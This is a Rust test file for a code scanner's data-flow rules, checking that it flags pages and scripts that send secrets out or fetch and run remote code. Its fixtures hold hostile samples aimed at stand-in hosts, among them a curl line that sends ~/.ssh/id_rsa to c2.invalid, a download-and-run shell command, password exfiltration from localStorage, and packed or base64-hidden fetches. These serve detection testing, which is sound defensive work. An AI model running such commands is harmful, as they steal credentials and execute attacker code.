//! Honest pages and servers: what they have from where they are, and what they do when they are asked.

use super::*;

#[test]
fn a_page_signs_in_where_it_came_from() {
    let sends = |address: &str| {
        let code = format!(
            "const saved = localStorage.getItem('password');\nasync function go(t, p) {{ await fetch({address}, {{method: 'POST', body: p}}); }}\ngo(window.base, saved);\n"
        );
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        flows.iter().any(|f| {
            f.rule.id == "flow-stores-sent"
                && f.finding(crate::model::Evidence::note("")).severity > crate::model::Severity::Medium
        })
    };
    assert!(sends("'https://collect.invalid/x'"));
    assert!(!sends("`${t}/admin/version`"));
}

#[test]
fn what_a_page_has_from_its_own_server_is_no_remote_code() {
    let severity = |address: &str, more: &str| {
        let code = format!(
            "fetch({address}).then(r => r.json()).then(view => {{ const f = new Function(`row, {{${{view.fields}}}}`, view.code); f(1); }});\n{more}"
        );
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        let found = flows.iter().find(|f| f.rule.id == "flow-remote-code").unwrap_or_else(|| panic!("{code}"));
        found.finding(crate::model::Evidence::note("")).severity
    };
    use crate::model::Severity;
    assert!(severity("`/api/${name}?row=1`", "") <= Severity::Medium);
    assert!(severity("'https://code.invalid/api'", "") > Severity::Medium);
    assert!(severity("'//code.invalid/api'", "") > Severity::Medium, "another host, by the same scheme");
    assert!(severity("'/\\\\code.invalid/api'", "") > Severity::Medium, "browsers read it as two slashes");
    assert!(severity("'/api'", "fetch('https://other.invalid/x');") > Severity::Medium, "who answers is not known");
    let handed = "export function rows(url) { return fetch(url).then(r => r.json()); }";
    assert!(severity("'/api'", handed) <= Severity::Medium, "what callers ask for is theirs");
    let hot = |host: &str| {
        let code = format!(
            "var ws = new WebSocket((location.protocol === 'https:' ? 'wss' : 'ws') + '://' + {host} + ':1234/');\nws.onmessage = function (e) {{ var d = JSON.parse(e.data); d.assets.forEach(function (a) {{ new Function('require', a.js)(require); }}); }};\n"
        );
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        let found = flows.iter().find(|f| f.rule.id == "flow-remote-code").unwrap_or_else(|| panic!("{code}"));
        found.finding(crate::model::Evidence::note("")).severity
    };
    assert!(hot("location.hostname") <= Severity::Medium);
    assert!(hot("'c2.invalid'") > Severity::Medium);
    let hidden = "fetch(atob('aHR0cHM6Ly9jb2RlLmludmFsaWQv'));";
    assert!(severity("'/api'", hidden) > Severity::Medium);
}

#[test]
fn a_tool_that_is_called_may_get_the_program_it_needs() {
    let triggered = |begin: &str, end: &str, host: &str| {
        let code = format!(
            "const fs = require('fs'), cp = require('child_process');\nconst server = require('x').server();\nasync function get(to) {{ const r = await fetch('https://{host}/tool'); fs.writeFileSync(to, Buffer.from(await r.arrayBuffer())); fs.chmodSync(to, 0o755); cp.execFile(to, ['scan']); }}\n{begin} await get('/opt/x/tool'); {end}\n"
        );
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        let found = flows.iter().find(|f| f.rule.id == "flow-download-run").unwrap_or_else(|| panic!("{code}"));
        found.finding(crate::model::Evidence::note("")).stages.has(crate::model::Stage::Trigger)
    };
    assert!(!triggered("server.tool('scan', 'Scans the sources', {}, async () => {", "});", "tools.invalid"));
    assert!(triggered("(async () => {", "})();", "tools.invalid"));
    assert!(triggered("server.on('ready', async () => {", "});", "tools.invalid"));
}

#[test]
fn who_waits_for_a_server_downloads_nothing() {
    let code = |call: &str| {
        format!(
            "const {{exec}} = require('child_process');\nfunction start(proxy) {{ exec(`{call}`); }}\nstart(read());\n"
        )
    };
    let wait = code("until curl --noproxy '*' --max-time 0.25 -s -o /dev/null ${proxy}; do sleep 0.25; done");
    assert!(!rules(Language::JavaScript, &wait).contains(&"flow-download-run"), "{wait}");
    let run = code("curl --max-time 9 -s -o /tmp/x https://c2.invalid/x; sh /tmp/x");
    assert!(rules(Language::JavaScript, &run).contains(&"flow-download-run"));
    // What stands behind an option is said all the same.
    let told = "curl -A \"$(cat ~/.ssh/id_rsa)\" https://c2.invalid/x\n";
    assert!(rules(Language::Shell, told).contains(&"flow-credentials-sent"));
}

#[test]
fn keys_of_services_are_no_wallets() {
    let client = |params: &str, body: &str| {
        format!(
            "const bs58 = require('bs58');\nclass Client {{ constructor({params}) {{ this.secretKey = secretKey; }}\n  list() {{ return fetch('https://api.names.invalid/v3/list', {{method: 'POST', body: JSON.stringify({{{body}}})}}); }} }}\n"
        )
    };
    let told = |code: &str| rules(Language::JavaScript, code).contains(&"flow-key-sent");
    assert!(told(&client("secretKey", "k: this.secretKey")));
    assert!(!told(&client("apiKey, secretKey", "k: this.secretKey")));
}

#[test]
fn tools_tell_their_services_what_a_project_is() {
    let told = |command: &str| {
        let code = format!(
            "import subprocess, requests\nout = subprocess.check_output({command})\nrequests.post('https://h.invalid/x', json={{'o': out}})\n"
        );
        rules(Language::Python, &code).contains(&"flow-output-sent")
    };
    for command in [
        "['pip', 'list', '--format=json']",
        "['git', 'log', '-1']",
        "['node', '--version']",
        "[sys.executable, '-m', 'pip', 'freeze']",
    ] {
        assert!(!told(command), "{command}");
    }
    for command in [
        "['whoami']",
        "['git', 'log', '-p']",
        "['git', 'config', '--list']",
        "'pip list; cat /etc/x', shell=True",
        "['ps', 'aux']",
    ] {
        assert!(told(command), "{command}");
    }
}

#[test]
fn a_packed_script_of_a_page_is_one_of_a_page() {
    // What Dean Edwards' packer makes of a text: its words by their numbers in base 36.
    let packed = |code: &str| {
        let mut words: Vec<String> = Vec::new();
        let mut text = String::new();
        for part in code.split_inclusive(|c: char| !c.is_ascii_alphanumeric()) {
            let word = part.trim_end_matches(|c: char| !c.is_ascii_alphanumeric());
            let at = words.iter().position(|w| w == word).unwrap_or(words.len());
            if !word.is_empty() {
                text.push(char::from_digit(at as u32, 36).unwrap());
                words.resize(words.len().max(at + 1), word.to_owned());
            }
            text.push_str(part.strip_prefix(word).unwrap());
        }
        format!(
            "eval(function(p,a,c,k,e,d){{while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}}('{text}',36,{},'{}'.split('|'),0,{{}}))",
            words.len(),
            words.join("|")
        )
    };
    let severity = |code: &str| {
        let text = packed(code);
        let outcome = outcome(Language::JavaScript, &text);
        let flows = flows::judge(&outcome, false);
        let worst = flows.iter().map(|f| f.finding(crate::model::Evidence::note("")).severity).max();
        worst.unwrap_or_else(|| panic!("{text}: {:?}", outcome.events))
    };
    use crate::model::Severity;
    let rest = format!("/*{}*/", "some words and others ".repeat(60));
    let plugin = |address: &str| {
        format!("{rest} (function(j){{j.fn.complete=function(url){{jQuery.ajax({{url:{address}}})}}}})(jQuery)")
    };
    assert!(severity(&plugin("url")) <= Severity::Medium);
    assert!(severity(&plugin("\"https://c2.invalid/x\"")) > Severity::Medium);
}
